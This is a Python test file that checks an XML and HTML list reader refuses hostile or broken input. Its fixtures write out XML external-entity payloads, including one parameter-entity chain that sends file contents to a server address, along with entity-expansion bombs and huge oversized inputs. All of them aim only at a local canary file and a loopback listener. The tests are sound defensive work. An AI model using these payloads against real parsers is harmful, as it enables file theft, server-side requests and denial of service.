"""Publishers' XML and HTML: what is hostile or broken is refused with its place, and nothing is opened for it."""

from __future__ import annotations

import gzip
import socket
from typing import TYPE_CHECKING

import pytest

from clearhold.lists.markup import read_html_table, read_page, read_records, read_tree, settle, text_of
from clearhold.model import CouldNotRead

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

CANARY = "what no list may show"
ROOT = ("list",)
MEGABYTE = 1_000_000


@pytest.fixture
def canary(tmp_path: Path) -> str:
    """The address of a file that hostile XML asks for."""
    file = tmp_path / "canary.txt"
    file.write_text(CANARY)
    return file.as_uri()


@pytest.fixture
def listener(socket_enabled: None) -> Iterator[socket.socket]:
    """A server on loopback that hostile XML asks; nobody may connect to it."""
    del socket_enabled
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def read_both(content: bytes) -> list[str]:
    """All text that the two readers show of a file: piece by piece, and as a tree."""
    shown = [text_of(record) for record in read_records(content, "list.xml", ("record",), ROOT)]
    tree = read_tree(content, "list.xml", ROOT)
    return [*shown, text_of(tree), *(str(value) for each in tree.iter() for value in each.values())]


def refusals_of(content: bytes) -> list[str]:
    """What both readers say of a file that neither may read."""
    with pytest.raises(CouldNotRead) as by_pieces:
        list(read_records(content, "list.xml", ("record",), ROOT))
    with pytest.raises(CouldNotRead) as as_tree:
        read_tree(content, "list.xml", ROOT)
    return [str(by_pieces.value), str(as_tree.value)]


def nested(levels: int) -> str:
    """Entities each of which is ten of the one before: ten to the power of `levels` words."""
    return "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, levels + 1))


# {file} is the canary's address, {server} the listener's.
ASKING = {
    "an external entity of a file": '<!DOCTYPE list [<!ENTITY x SYSTEM "{file}">]><list><record>&x;</record></list>',
    "an external entity of a server": '<!DOCTYPE list [<!ENTITY x SYSTEM "{server}">]><list>&x;</list>',
    "a public external entity": '<!DOCTYPE list [<!ENTITY x PUBLIC "-//a" "{server}">]><list>&x;</list>',
    "an external entity in an attribute": '<!DOCTYPE list [<!ENTITY x SYSTEM "{file}">]><list a="&x;"><record/></list>',
    "an external entity never used": '<!DOCTYPE list [<!ENTITY x SYSTEM "{file}">]><list><record>a</record></list>',
    "an external DTD of a file": '<!DOCTYPE list SYSTEM "{file}"><list><record/></list>',
    "an external DTD of a server": '<!DOCTYPE list SYSTEM "{server}"><list><record/></list>',
    "a public DTD": '<!DOCTYPE list PUBLIC "-//a//b" "{server}"><list><record/></list>',
    "a parameter entity of a file": '<!DOCTYPE list [<!ENTITY % p SYSTEM "{file}"> %p;]><list><record/></list>',
    "a parameter entity of a server": '<!DOCTYPE list [<!ENTITY % p SYSTEM "{server}"> %p;]><list><record/></list>',
    "a parameter entity that makes another": (
        '<!DOCTYPE list [<!ENTITY % f SYSTEM "{file}">'
        "<!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{server}?%f;'>\"> %e; %s;]><list><record/></list>"
    ),
    "an unparsed entity and a notation": (
        '<!DOCTYPE list [<!NOTATION n SYSTEM "{server}"><!ENTITY u SYSTEM "{file}" NDATA n>]><list><record/></list>'
    ),
    "a DTD in an external subset and an internal one": (
        '<!DOCTYPE list SYSTEM "{server}" [<!ENTITY x "{file}">]><list><record>&x;</record></list>'
    ),
}
HARMLESS = {
    "an inclusion of a file": (
        '<list xmlns:xi="http://www.w3.org/2001/XInclude"><record>a<xi:include href="{file}" parse="text"/></record>'
        "</list>"
    ),
    "an inclusion of a server": (
        '<list xmlns:xi="http://www.w3.org/2001/XInclude"><record>a<xi:include href="{server}"/></record></list>'
    ),
    "a stylesheet": '<?xml-stylesheet href="{server}" type="text/xsl"?><list><record>a</record></list>',
    "the place of a schema": (
        '<list xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{server}">'
        "<record>a</record></list>"
    ),
    "a base address": '<list xml:base="{server}"><record>a</record></list>',
}
REFUSED: dict[str, str | bytes] = {
    "an entity bomb": f'<!DOCTYPE list [<!ENTITY l0 "lol">{nested(9)}]><list><record>&l9;</record></list>',
    "an entity bomb in an attribute": f'<!DOCTYPE list [<!ENTITY l0 "lol">{nested(9)}]><list a="&l9;"/>',
    "a long entity many times": f'<!DOCTYPE list [<!ENTITY a "{"x" * 100_000}">]><list>{"&a;" * 10_000}</list>',
    "entities that name each other": '<!DOCTYPE list [<!ENTITY a "&b;"><!ENTITY b "&a;">]><list>&a;</list>',
    "a DTD without a word": "<!DOCTYPE list><list><record/></list>",
    "a DTD that gives attributes": '<!DOCTYPE list [<!ATTLIST record a CDATA "x">]><list><record/></list>',
    "an entity that is not declared": "<list><record>&nope;</record></list>",
    "5,000 levels": f"<list>{'<a>' * 5000}{'</a>' * 5000}</list>",
    "300 levels that do not close": f"<list>{'<a>' * 300}",
    "20 MB of text in one record": f"<list><record>{'x' * (20 * MEGABYTE)}</record></list>",
    "20 MB of text that does not end": f"<list><record>{'x' * (20 * MEGABYTE)}",
    "an attribute of 15 MB": f'<list><record a="{"x" * (15 * MEGABYTE)}"/></list>',
    "an attribute of 20 MB that does not end": f'<list><record a="{"x" * (20 * MEGABYTE)}',
    "a name of 15 MB": f"<list><{'n' * (15 * MEGABYTE)}/></list>",
    "a comment of 20 MB": f"<list><!--{'x' * (20 * MEGABYTE)}--><record/></list>",
    "an instruction of 20 MB": f"<list><?p {'x' * (20 * MEGABYTE)}?><record/></list>",
    "20 MB marked as characters": f"<list><record><![CDATA[{'x' * (20 * MEGABYTE)}]]></record></list>",
    "a cut within a tag": "<list><record>abc</record><rec",
    "a cut between records": "<list><record>abc</record>",
    "a cut within a letter": "<list><record>新疆</record></list>".encode()[:17],
    "a zero byte": "<list><record>a\0b</record></list>",
    "a control character": "<list><record>a\x08b</record></list>",
    "a control character by its number": "<list><record>&#8;</record></list>",
    "half a letter by its number": "<list><record>&#xD800;</record></list>",
    "two roots": "<list/><list/>",
    "text behind the root": "<list/>x",
    "an attribute twice": '<list a="1" a="2"/>',
    "a tag that another closes": "<list><record></list></record>",
    "a prefix that is not declared": "<x:list/>",
    "nothing": "",
    "blanks": " \n ",
    "JSON": '{"list": []}',
    "a compressed file": gzip.compress(b"<list/>"),
    "XML 2.0": '<?xml version="2.0"?><list/>',
    "Latin-1 said to be UTF-8": '<?xml version="1.0" encoding="UTF-8"?><list>é</list>'.encode("latin-1"),
    "UTF-8 said to be Latin-1": '<?xml version="1.0" encoding="ISO-8859-1"?><list>é</list>',
    "UTF-8 said to be ASCII": '<?xml version="1.0" encoding="US-ASCII"?><list>é</list>',
    "UTF-8 said to be UTF-16": '<?xml version="1.0" encoding="UTF-16"?><list>é</list>',
    "UTF-7": '<?xml version="1.0" encoding="UTF-7"?><list>+ADw-</list>',
    "an encoding that does not exist": '<?xml version="1.0" encoding="x-none"?><list>a</list>',
    "UTF-8 that is too long": b"<list>\xc0\xaf</list>",
}


def test_there_are_as_many_hostile_shapes_as_the_plan_asks_for() -> None:
    assert len(ASKING) + len(HARMLESS) + len(REFUSED) >= 52


@pytest.mark.parametrize("shape", ASKING)
def test_xml_that_asks_for_files_or_servers_is_refused_and_gets_none(
    shape: str, canary: str, listener: socket.socket
) -> None:
    server = f"http://127.0.0.1:{listener.getsockname()[1]}/x"
    content = ASKING[shape].replace("{file}", canary).replace("{server}", server).encode()
    for said in refusals_of(content):
        assert CANARY not in said
        assert said.startswith("list.xml")
    with pytest.raises(BlockingIOError):
        listener.accept()


@pytest.mark.parametrize("shape", HARMLESS)
def test_xml_that_only_mentions_files_or_servers_is_read_without_them(
    shape: str, canary: str, listener: socket.socket
) -> None:
    server = f"http://127.0.0.1:{listener.getsockname()[1]}/x"
    shown = read_both(HARMLESS[shape].replace("{file}", canary).replace("{server}", server).encode())
    assert shown[0] == "a"
    assert not any(CANARY in text for text in shown)
    with pytest.raises(BlockingIOError):
        listener.accept()


@pytest.mark.parametrize("shape", REFUSED)
def test_hostile_or_broken_xml_is_refused_in_one_sentence_that_names_the_file(shape: str) -> None:
    content = REFUSED[shape]
    for said in refusals_of(content.encode() if isinstance(content, str) else content):
        assert said.startswith("list.xml")
        assert len(said) < 300
        assert "\n" not in said


@pytest.mark.parametrize("records_before", [0, 10, 5_000, 60_000])
def test_a_fault_is_told_with_its_line_however_far_down_it_is(records_before: int) -> None:
    content = b"<list>\n" + b"<record>a</record>\n" * records_before + b"<record>&nope;</record>\n</list>"
    for said in refusals_of(content):
        assert said.startswith(f"list.xml line {records_before + 2}: broken XML (Entity 'nope' not defined)")


def test_nothing_that_was_read_before_a_cut_counts() -> None:
    records = read_records(b"<list><record>a</record><record>b</record>", "list.xml", ("record",), ROOT)
    with pytest.raises(CouldNotRead, match=r"^list\.xml line 1: broken XML .*download it again$"):
        list(records)


def test_many_attributes_and_namespaces_are_read() -> None:
    many = " ".join(f'a{number}=""' for number in range(5_000))
    assert read_both(f"<list><record {many}>a</record></list>".encode())[0] == "a"
    spaces = " ".join(f'xmlns:a{number}="u"' for number in range(5_000))
    assert read_both(f"<list><record {spaces}>a</record></list>".encode())[0] == "a"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-8-sig"])
def test_names_in_any_script_are_read_in_every_encoding_of_unicode(encoding: str) -> None:
    content = "<list><record>新疆生产建设兵团公安局 Société Шаңхай شرکت</record></list>".encode(encoding)
    (shown,) = [text_of(record) for record in read_records(content, "list.xml", ("record",), ROOT)]
    assert shown == "新疆生产建设兵团公安局 Société Шаңхай شرکت"


def test_a_single_byte_encoding_that_is_told_truly_is_read() -> None:
    content = '<?xml version="1.0" encoding="windows-1252"?><list><record>Société</record></list>'.encode("cp1252")
    assert read_both(content)[0] == "Société"


def test_a_web_page_or_another_file_in_place_of_the_list_is_called_what_it_is() -> None:
    for said in refusals_of(b"<html><body>503 Service Unavailable</body></html>"):
        assert said == "list.xml is a web page, not the list: the publisher's server has shown an error page"
    for said in refusals_of(b"<rss/>"):
        assert said == "list.xml begins with <rss>, not with <list>: it is another file, or its layout is new"


def test_records_are_read_whatever_their_namespace_and_without_comments() -> None:
    content = b'<l:list xmlns:l="urn:x"><l:record>a<!-- no -->b<?no x?></l:record></l:list>'
    assert [text_of(record) for record in read_records(content, "list.xml", ("record",), ROOT)] == ["ab"]


def test_text_is_settled_without_invisible_marks() -> None:
    assert settle(" a\u200b\u00ad \n b\ufeff\u00a0c ") == "a b c"


def test_a_web_page_that_was_cut_is_refused() -> None:
    with pytest.raises(CouldNotRead, match=r"^page\.html does not end as a web page does"):
        read_page(b"<html><body><table><tr><td>a</td></tr>", "page.html")


def test_cells_of_a_page_that_span_rows_and_columns_are_repeated_where_they_reach() -> None:
    page = read_page(
        b"<html><table><tr><td rowspan=2>a</td><td colspan=2>b</td></tr><tr><td>c<br>d</td><td>e</td></tr></table>"
        b"</html>",
        "page.html",
    )
    (table,) = page.iter("table")
    assert read_html_table(table) == [["a", "b", "b"], ["a", "c d", "e"]]
